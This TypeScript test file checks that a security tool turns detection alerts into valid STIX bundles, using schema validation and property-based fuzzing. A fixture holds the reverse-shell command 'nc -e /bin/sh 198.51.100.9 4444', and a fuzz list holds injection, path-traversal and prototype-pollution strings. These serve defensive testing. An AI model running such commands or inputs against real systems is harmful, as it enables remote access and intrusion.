import type { ValidateFunction } from 'ajv';
import fc from 'fast-check';
import { expect, it } from 'vitest';
import type { AlertChange } from '../../../src/model/alert.js';
import { LEVELS, type Level } from '../../../src/model/rule.js';
import { incidentBundle, stixBundle } from '../../../src/sinks/stix/bundle.js';
import { alertChange, incidentChange } from '../../helpers/alerts.js';
import { describeShared, readJsonLines, sharedPath } from '../../helpers/shared.js';
import { stixValidators } from '../../helpers/stix-schemas.js';

interface Plain {
  readonly type: string;
  readonly id: string;
  readonly [property: string]: unknown;
}

describeShared('STIX bundles and the OASIS schemas', () => {
  const validators = stixValidators();

  it('are valid for a typical alert', () => {
    expect(faultsOf(written(alertChange()))).toEqual([]);
  });

  it('are valid whatever the alert holds', () => {
    fc.assert(
      fc.property(anyAlert, fc.option(time, { nil: undefined }), (change, created) => {
        expect(faultsOf(written(change, created))).toEqual([]);
      }),
      { numRuns: 800 },
    );
  });

  it('are valid for an incident, whatever it and its alerts hold', () => {
    fc.assert(
      fc.property(
        fc.array(anyAlert, { maxLength: 4 }),
        hostile,
        fc.integer({ min: -5, max: 120 }),
        (alerts, title, risk) => {
          const change = incidentChange({ incident: { title: `x${title}`, risk } });
          const bundle = incidentBundle(
            change,
            alerts.map((alert) => stixBundle(alert)),
          );
          const { objects } = JSON.parse(JSON.stringify(bundle)) as { objects: Plain[] };
          expect(faultsOf(objects)).toEqual([]);
          const [group] = objects;
          const others = objects.slice(1).map(({ id }) => id);
          expect([...(group!.object_refs as string[])].sort()).toEqual(others.sort());
        },
      ),
      { numRuns: 200 },
    );
  });

  it('refuse an object that is not valid: the check itself works', () => {
    const [first, ...rest] = written(alertChange());
    expect(faultsOf([{ ...first!, created: '2026-11-20T10:00:00Z' }, ...rest])).not.toEqual([]);
  });

  function faultsOf(objects: readonly Plain[]): string[] {
    const ids = new Set(objects.map(({ id }) => id));
    const faults: string[] = [];
    for (const object of objects) {
      faults.push(...schemaFaults(object, validators.get(object.type)));
      if (object.modified !== undefined && String(object.modified) < String(object.created)) {
        faults.push(`${object.id}: modified before created`);
      }
      for (const ref of refsOf(object))
        if (!ids.has(ref)) faults.push(`${object.id}: ${ref} is not in the bundle`);
      for (const path of emptyIn(object, object.id)) faults.push(`${path} is null or empty`);
    }
    if (ids.size !== objects.length) faults.push('an id comes twice');
    return faults;
  }
});

describeShared('the STIX rows of the corpus', () => {
  interface Row {
    readonly id: string;
    readonly kind: string;
    readonly input: { readonly alert: CorpusAlert; readonly check: string };
    readonly expect: { readonly value: unknown };
  }
  const rows = readJsonLines<Row>(sharedPath('corpus', 'pipeline.jsonl')).filter(
    ({ kind }) => kind === 'stix',
  );

  it.each(rows)('$id: $input.check', ({ id, input, expect: { value } }) => {
    const change = fromCorpus(input.alert);
    const objects = written(change);
    const one = (type: string) => objects.find((object) => object.type === type)!;
    const reference = () => (one('indicator').external_references as Record<string, string>[])[0]!;
    const answers: Record<string, () => unknown> = {
      'stix-types': () =>
        objects.map(({ type }) => type).filter((type) => (value as string[]).includes(type)),
      'stix-ref': () => one('sighting').sighting_of_ref === one('indicator').id,
      'stix-required': () => {
        const names = input.check.replace('indicator has ', '').split(',');
        return names.every((name) => Object.hasOwn(one('indicator'), name));
      },
      'stix-stable-id': () => {
        const [first, second] = [stixBundle(change), stixBundle(change)];
        return first.id === second.id;
      },
      'stix-confidence': () => one('indicator').confidence,
      'stix-uuid': () =>
        objects.every(({ type, id: own }) =>
          new RegExp(
            `^${type}--[0-9a-f]{8}-[0-9a-f]{4}-[1-5][0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$`,
          ).test(own),
        ),
      'stix-bundle-spec': () => !Object.hasOwn(stixBundle(change), 'spec_version'),
      'stix-sighting-observed': () =>
        (one('sighting').observed_data_refs as string[]).includes(one('observed-data').id),
      'stix-custom-props': () => !objects.some((object) => Object.hasOwn(object, 'custom_properties')),
      'stix-subtechnique-url': () => reference().url,
      'stix-ext-ref-id': () => reference().external_id,
      'stix-millis': () => one('indicator').valid_from,
      'stix-pattern-ip': () =>
        one('indicator').pattern === "[ipv4-addr:value = '1.2.3.4']" ? 'ipv4-addr 1.2.3.4 in pattern' : null,
      'stix-pattern-host': () => one('indicator').pattern === "[domain-name:value = 'myhost']",
    };
    expect(answers[id], `no check for ${id}`).toBeDefined();
    const answer = answers[id]?.();
    if (Array.isArray(value)) expect(new Set(answer as unknown[])).toEqual(new Set(value));
    else expect(answer).toBe(value);
  });
});

it('an alert keeps its ids over revisions, and receivers see which is newer', () => {
  const first = written(alertChange());
  const later = written(
    alertChange({
      alert: { revision: 2, status: 'updated', count: 100, last_seen: '2026-11-20T11:00:00.000Z' },
    }),
  );
  expect(later.map(({ id }) => id)).toEqual(first.map(({ id }) => id));
  expect(later.find(({ type }) => type === 'sighting')).toMatchObject({
    count: 100,
    created: '2026-11-20T10:41:59.000Z',
    modified: '2026-11-20T11:00:00.000Z',
  });
});

it('two alerts share addresses, techniques and identities, and nothing else', () => {
  const ids = (id: string) => new Set(written(alertChange({ alert: { id } })).map((object) => object.id));
  const [a, b] = [ids('00000000-0000-5000-8000-000000000001'), ids('00000000-0000-5000-8000-000000000002')];
  const common = [...a].filter((id) => b.has(id)).map((id) => id.split('--')[0]);
  expect(new Set(common)).toEqual(
    new Set(['identity', 'attack-pattern', 'ipv4-addr', 'domain-name', 'user-account', 'artifact']),
  );
});

it('an alert without source address is about the user and the host', () => {
  const objects = written({
    ...alertChange({ user: { name: "o'neil\\" } }),
    source: undefined,
  } as AlertChange);
  expect(objects.find(({ type }) => type === 'indicator')?.pattern).toBe(
    "[user-account:account_login = 'o\\'neil\\\\'] AND [domain-name:value = 'web1']",
  );
});

it('a chain whose last record somebody else sent is about whom it names', () => {
  const objects = written(alertChange({ entity: '203.0.113.7', source: { ip: '10.0.0.5' } }));
  expect(objects.find(({ type }) => type === 'indicator')?.pattern).toBe("[ipv4-addr:value = '203.0.113.7']");
  const addresses = objects.filter(({ type }) => type === 'ipv4-addr').map(({ value }) => value);
  expect(addresses).toEqual(expect.arrayContaining(['203.0.113.7', '10.0.0.5']));
});

it('what a rule looked at becomes observables of their own', () => {
  const matches = Object.entries({
    'process.command_line': 'nc -e /bin/sh 198.51.100.9 4444',
    'process.executable': '/usr/bin/nc',
    TargetFilename: 'C:\\Users\\bob\\evil.exe',
    'url.original': 'https://example.com/a?b=1',
    'dns.question.name': 'evil.example.com',
    'destination.ip': '::FFFF:198.51.100.9',
  }).map(([field, value]) => ({ selection: 's', field, pattern: '*', value }));
  const objects = written(alertChange({ evidence: [{ 'event.id': '1-1', original: 'x', matches }] }));
  const of = (type: string) => objects.filter((object) => object.type === type);
  expect(of('process')).toMatchObject([{ command_line: 'nc -e /bin/sh 198.51.100.9 4444' }]);
  expect(of('directory')).toMatchObject([{ path: '/usr/bin' }, { path: 'C:\\Users\\bob' }]);
  expect(of('file')).toMatchObject([{ name: 'nc' }, { name: 'evil.exe' }]);
  expect(of('url')).toMatchObject([{ value: 'https://example.com/a?b=1' }]);
  expect(of('domain-name')).toMatchObject([{ value: 'web1' }, { value: 'evil.example.com' }]);
  expect(of('ipv4-addr')).toMatchObject([{ value: '203.0.113.7' }, { value: '198.51.100.9' }]);
});

function schemaFaults(object: Plain, validate: ValidateFunction | undefined): string[] {
  if (validate === undefined) return [`${object.id}: no such type`];
  const isValid: boolean = validate(object);
  return isValid ? [] : [`${object.id}: ${JSON.stringify(validate.errors)}`];
}

function written(change: AlertChange, created?: string): Plain[] {
  return (JSON.parse(JSON.stringify(stixBundle(change, created))) as { objects: Plain[] }).objects;
}

function refsOf(object: Plain): string[] {
  return Object.entries(object).flatMap(([name, value]) =>
    name.endsWith('_ref') ? [String(value)] : name.endsWith('_refs') ? (value as string[]) : [],
  );
}

function emptyIn(value: unknown, path: string): string[] {
  if (value === null) return [path];
  if (typeof value !== 'object') return [];
  const members = Object.entries(value as object);
  return members.length === 0
    ? [path]
    : members.flatMap(([key, member]) => emptyIn(member, `${path}.${key}`));
}

interface CorpusAlert {
  readonly title: string;
  readonly severity: Level;
  readonly source_key: string;
  readonly event_message: string;
  readonly sigma_rule_id: string;
  readonly mitre_techniques: readonly string[];
  readonly alert_id: string;
  readonly first_seen: number;
  readonly last_seen: number;
}

function fromCorpus(alert: CorpusAlert): AlertChange {
  const isAddress = /^\d/.test(alert.source_key);
  return alertChange({
    severity: alert.severity,
    rule: {
      id: alert.sigma_rule_id,
      name: alert.title,
      level: alert.severity,
      version: '0',
      file: 'rule.yml',
    },
    threat: { tactic: [], technique: alert.mitre_techniques.map((id) => ({ id, name: id })) },
    entity: alert.source_key,
    source: isAddress ? { ip: alert.source_key } : (undefined as never),
    host: isAddress ? (undefined as never) : { name: alert.source_key },
    user: undefined as never,
    evidence: [{ 'event.id': '1-1', original: alert.event_message, matches: [] }],
    alert: {
      id: alert.alert_id,
      first_seen: new Date(alert.first_seen * 1000).toISOString(),
      last_seen: new Date(alert.last_seen * 1000).toISOString(),
    },
  });
}

const hostile = fc.oneof(
  fc.string({ unit: 'binary', maxLength: 40 }),
  fc.string({ maxLength: 40 }),
  fc.constantFrom(
    '',
    ' ',
    "'",
    '\\',
    "\\' OR 1",
    ']',
    '\u0000',
    '\ud800',
    '\u202e',
    '__proto__',
    'CVE-2021-44228',
    'CAPEC-1',
    '203.0.113.7',
    '::1',
    '::ffff:192.0.2.1',
    '64:ff9b::192.0.2.33',
    'fe80::1%eth0',
    '192.0.2.0/24',
    'web1.example.com',
    'http://a/%zz',
    'https://example.com/x|y',
    '/',
    'C:\\',
    '../../etc/passwd',
    '9'.repeat(400),
  ),
);
const address = fc.oneof(fc.ipV4(), fc.ipV6(), hostile);
const time = fc.oneof(
  fc
    .date({ noInvalidDate: true, min: new Date('0001-01-01'), max: new Date('9999-12-31') })
    .map((date) => date.toISOString()),
  hostile,
);
const field = fc.oneof(
  fc.constantFrom(
    'source.ip',
    'destination.ip',
    'user.name',
    'host.name',
    'url.domain',
    'url.original',
    'file.path',
    'process.executable',
    'process.hash.sha256',
    'process.command_line',
    '__proto__',
    'constructor',
  ),
  hostile,
);
const anyAlert: fc.Arbitrary<AlertChange> = fc
  .record(
    {
      '@timestamp': time,
      severity: fc.constantFrom(...LEVELS),
      entity: hostile,
      reason: hostile,
      source: fc.record({ ip: address }),
      destination: fc.record({ ip: address }),
      host: fc.record({ name: hostile }),
      user: fc.record({ name: hostile, target: fc.record({ name: hostile }) }),
      group: fc.dictionary(field, hostile),
      rule: fc.record({
        id: hostile,
        name: hostile,
        level: fc.constantFrom(...LEVELS),
        version: hostile,
        file: hostile,
        description: hostile,
        falsepositives: fc.array(hostile, { maxLength: 3 }),
      }),
      threat: fc.record({
        tactic: fc.array(fc.record({ id: hostile, name: hostile }), { maxLength: 3 }),
        technique: fc.array(
          fc.record({
            id: fc.oneof(fc.constantFrom('T1110.001', 'T1059', 'T9999', 'T1110.001'), hostile),
            name: hostile,
          }),
          { maxLength: 4 },
        ),
      }),
      evidence: fc.array(
        fc.record({
          'event.id': hostile,
          original: hostile,
          matches: fc.array(
            fc.record({ selection: hostile, field: fc.option(field), pattern: hostile, value: hostile }),
            { maxLength: 4 },
          ),
        }),
        { maxLength: 3 },
      ),
      alert: fc.record({
        id: hostile,
        count: fc.oneof(fc.nat(), fc.constantFrom(0, 1, 1e12)),
        first_seen: time,
        last_seen: time,
      }),
    },
    { requiredKeys: ['alert', 'evidence', 'rule', 'threat'] },
  )
  .map((parts) => {
    const { source, destination, host, user, ...rest } = parts;
    const bare = { ...alertChange(rest) } as Record<string, unknown>;
    return { ...bare, source, destination, host, user } as unknown as AlertChange;
  });
